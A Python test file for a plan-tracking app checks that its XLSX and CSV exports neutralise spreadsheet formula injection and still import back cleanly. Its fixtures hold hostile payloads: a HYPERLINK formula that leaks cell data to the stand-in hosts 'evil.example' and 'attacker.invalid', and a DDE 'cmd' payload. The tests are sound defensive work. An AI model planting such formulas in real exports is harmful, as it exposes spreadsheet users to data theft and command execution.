"""Exports never carry live formulas: hostile texts are written as text (the .xlsx) or
neutralised the OWASP way (the CSVs), and an export still imports back to the same texts."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlmodel import SQLModel, select

from tests.helpers import MINIMAL, write_workbook
from tracker import palette
from tracker.io.cells import frame_csv, neutralise, restore_text
from tracker.models import ActionItem, Institution, ReportRevision, StrategicLine
from tracker.services import plans
from tracker.services.exports import export_csv_zip, export_workbook
from tracker.services.imports import import_path
from tracker.services.permissions import SYSTEM

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = {
    "line": "=1+2",
    "title": HYPERLINK,
    "description": "-2+3 and more",
    "indicator": "@SUM(A1:A9)",
    "unit": "+people",
    "institution": "+593 police unit",
    "narrative": DDE,
    "obstacles": "=1+1",
    "next_steps": "'=already quoted by hand",
}


def _hostile_plan(session, tmp_path: Path):
    import_path(session, SYSTEM, write_workbook(tmp_path / "plan.xlsx", MINIMAL))
    session.flush()
    plan = plans.get_plan(session, "Small plan")
    line = session.exec(select(StrategicLine).where(StrategicLine.plan_id == plan.id)).first()
    line.name = HOSTILE["line"]
    item = session.exec(select(ActionItem).where(ActionItem.code == "1.1")).one()
    item.title, item.description = HOSTILE["title"], HOSTILE["description"]
    item.indicator, item.unit = HOSTILE["indicator"], HOSTILE["unit"]
    police = session.exec(select(Institution).where(Institution.acronym == "DINAPEN")).one()
    police.name = HOSTILE["institution"]
    for revision in session.exec(select(ReportRevision)):
        revision.narrative = HOSTILE["narrative"]
        revision.obstacles = HOSTILE["obstacles"]
        revision.next_steps = HOSTILE["next_steps"]
    session.flush()
    return plan


def _texts(session) -> dict[str, object]:
    item = session.exec(select(ActionItem).where(ActionItem.code == "1.1")).one()
    revisions = session.exec(select(ReportRevision)).all()
    return {
        "lines": sorted(line.name for line in session.exec(select(StrategicLine))),
        "item": (item.title, item.description, item.indicator, item.unit),
        "institution": session.exec(select(Institution.name).where(
            Institution.acronym == "DINAPEN")).one(),
        "reports": sorted({(r.narrative, r.obstacles, r.next_steps) for r in revisions
                           if not r.nothing_to_report}),
    }


def _wipe(session):
    for table in reversed(SQLModel.metadata.sorted_tables):
        session.execute(table.delete())
    session.flush()
    session.expunge_all()


def test_the_xlsx_export_holds_no_formula_and_imports_back(session, tmp_path):
    plan = _hostile_plan(session, tmp_path)
    before = _texts(session)
    path = tmp_path / "export.xlsx"
    path.write_bytes(export_workbook(session, SYSTEM, plan))
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    workbook = load_workbook(path)  # not data_only: a formula would show as one
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    shown = {cell.value for cell in cells}
    assert {HYPERLINK, DDE, "=1+2", "@SUM(A1:A9)"} <= shown  # as text, exactly
    assert all(cell.quotePrefix for cell in cells if cell.value in (HYPERLINK, DDE))
    _wipe(session)
    import_path(session, SYSTEM, path)
    session.flush()
    assert _texts(session) == before


def test_the_csv_export_neutralises_formulas_and_imports_back(session, tmp_path):
    plan = _hostile_plan(session, tmp_path)
    before = _texts(session)
    data = export_csv_zip(session, SYSTEM, plan)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        cells = [cell for name in archive.namelist()
                 for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
                 for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{DDE}" in cells and f"'{HYPERLINK}" in cells and "''=already quoted by hand" in (
        cells)
    path = tmp_path / "export.zip"
    path.write_bytes(data)
    _wipe(session)
    import_path(session, SYSTEM, path)
    session.flush()
    assert _texts(session) == before


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@x", "\tx", "\rx", "\n=1+2", "'",
                                  "''=x", "'a", "plain", "", "a=b"])
def test_neutralising_is_undone_exactly(text):
    """A line feed before a formula is trimmed by some spreadsheets' CSV import, which then
    runs the formula (issue 25): it is neutralised like a carriage return."""
    assert restore_text(neutralise(text)) == text
    assert not str(neutralise(text)).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_a_chart_s_data_download_is_neutralised_too():
    frame = pd.DataFrame({"institution": [HYPERLINK, "OIM"], "progress": [-12.5, 40.0]})
    rows = list(csv.reader(io.StringIO(frame_csv(frame).decode())))
    assert rows == [["institution", "progress"], [f"'{HYPERLINK}", "-12.5"], ["OIM", "40.0"]]


def test_the_xlsx_export_keeps_the_template_s_look_and_error_words_as_text(session, tmp_path):
    plan = _hostile_plan(session, tmp_path)
    item = session.exec(select(ActionItem).where(ActionItem.code == "1.1")).one()
    item.description = "#N/A"  # openpyxl would have made it an error cell
    session.flush()
    path = tmp_path / "export.xlsx"
    path.write_bytes(export_workbook(session, SYSTEM, plan))
    items = load_workbook(path)["items"]
    header = items["A1"]
    header_fill = "00" + palette.hex_digits(palette.TABLE_HEADER)  # the deck's table header
    assert (header.value, header.font.b, header.fill.fgColor.rgb) == ("code", True, header_fill)
    assert items.freeze_panes == "A2" and items.column_dimensions["C"].width == 12
    assert [items[f"A{row}"].number_format for row in (2, 3)] == ["@", "@"]
    assert (items["D2"].value, items["D2"].data_type) == ("#N/A", "s")
    assert items["C2"].value == HYPERLINK and items["C2"].quotePrefix


def test_a_character_xml_cannot_hold_is_dropped_not_failing_every_export(session, tmp_path):
    plan = _hostile_plan(session, tmp_path)
    item = session.exec(select(ActionItem).where(ActionItem.code == "1.1")).one()
    item.description = "Informe\x0c pegado\x0b de un PDF\ufffe"  # form feed, vertical tab
    session.flush()
    path = tmp_path / "export.xlsx"
    path.write_bytes(export_workbook(session, SYSTEM, plan))
    items = load_workbook(path)["items"]
    described = [row[3] for row in items.iter_rows(min_row=2, values_only=True)
                 if row[0] == "1.1"]
    assert described == ["Informe pegado de un PDF"]


ROOT = Path(__file__).resolve().parents[2]
LIVE = '=HYPERLINK("http://attacker.invalid/?leak="&A2,"details")'


def test_no_table_offers_streamlit_s_own_download(monkeypatch):
    """Streamlit's "Download as CSV" (and copying a read-only table's cells) writes cells as
    they are: switched off for every table of every session, the flag each session's first
    message carries to the browser (read from the app's own configuration)."""
    from streamlit import config
    from streamlit.proto.NewSession_pb2 import Config
    from streamlit.runtime.app_session import _populate_config_msg

    monkeypatch.chdir(ROOT)
    try:
        config.get_config_options(force_reparse=True)
        message = Config()
        _populate_config_msg(message)
        assert message.disable_data_export is True
    finally:
        monkeypatch.undo()
        config.get_config_options(force_reparse=True)


@pytest.fixture
def live_formulas(demo_url) -> str:
    """The demo with every report narrative, display name and institution a live formula."""
    from tracker.db import make_engine, session_scope
    from tracker.models import User

    engine = make_engine(demo_url)
    with session_scope(engine) as db:
        for revision in db.exec(select(ReportRevision)):
            revision.narrative = LIVE
        for user in db.exec(select(User)):
            user.display_name = f"={user.id}+1"
    engine.dispose()
    return demo_url


@pytest.mark.parametrize(("email", "page", "key"), [
    ("coordinacion@demo.example", "item", "item:history_csv"),
    ("admin@demo.example", "accounts", "accounts:csv"),
])
def test_a_table_s_csv_download_holds_no_live_formula(live_formulas, monkeypatch, email, page,
                                                      key):
    """The product's own CSV of a table (the only download a table offers): a narrative or
    a name that starts with "=" comes out neutralised, and the file holds the table's rows."""
    import ui.downloads
    from tests.apptest import dashboard, go_to, sign_in

    monkeypatch.setenv("TRACKER_DATABASE_URL", live_formulas)
    monkeypatch.setenv("TRACKER_DEMO", "1")
    made: dict[str, Callable[[], bytes | str]] = {}
    real = ui.downloads.download_button

    def spy(label, make, **kwargs):  # what the button makes when pressed
        made[kwargs["key"]] = make
        return real(label, make, **kwargs)

    monkeypatch.setattr(ui.downloads, "download_button", spy)
    at = go_to(sign_in(dashboard(), email), page)
    assert not at.exception
    content = made[key]()
    text = content.decode() if isinstance(content, bytes) else content
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) > 1 and cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert f"'{LIVE}" in cells or any(cell.startswith("'=") for cell in cells)
